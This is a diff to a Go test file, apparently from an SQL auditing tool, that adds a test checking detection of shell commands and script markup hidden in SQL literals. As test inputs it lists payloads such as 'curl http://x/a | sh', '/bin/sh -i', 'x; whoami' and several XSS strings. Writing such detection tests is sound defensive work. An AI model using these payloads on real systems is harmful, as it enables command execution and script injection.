@@ -1,7 +1,9 @@
 package statement
 
 import (
+	"fmt"
 	"slices"
+	"strings"
 	"testing"
 
 	"github.com/auditwarden/auditwarden/pipeline"
@@ -97,6 +99,31 @@ func TestTriggersSwitchedOff(t *testing.T) {
 	for _, sql := range harmless {
 		if st := a.Statement(pipeline.PostgreSQL, sql); st.HasSignal("trigger_disable") || st.HasSignal("rls_disabled") {
 			t.Errorf("%s: %v", sql, st.SignalNames())
+		}
+	}
+}
+
+// Case, and what stands around, do not hide what a literal holds.
+func TestContentsUnderChanges(t *testing.T) {
+	a := New(Config{}, Options{})
+	for name, texts := range map[string][]string{
+		"os_command_text": {"curl http://x/a | sh", "bash -c id", "x; whoami", "powershell -enc AAAA", "/bin/sh -i"},
+		"script_markup":   {"<script>a()</script>", "<img src=x onerror=a()>", "javascript:alert(1)", "<svg/onload=a()>"},
+	} {
+		for _, text := range texts {
+			for _, form := range []string{
+				"INSERT INTO t (a) VALUES ('%s')", "insert  into t (a)\nvalues /* x */ ('%s')", "UPDATE t SET a = ('%s') WHERE b = 1",
+				"INSERT INTO t (a) VALUES ('before %s')", "INSERT INTO t (a) VALUES ('%s after')", "INSERT INTO t (a) SELECT '%s' FROM u",
+			} {
+				for _, body := range []string{text, strings.ToUpper(text)} {
+					sql := fmt.Sprintf(form, body)
+					for _, engine := range engines2 {
+						if st := a.Statement(engine, sql); !st.HasSignal(name) {
+							t.Errorf("%s: no %s in %s", engine, name, sql)
+						}
+					}
+				}
+			}
 		}
 	}
 }
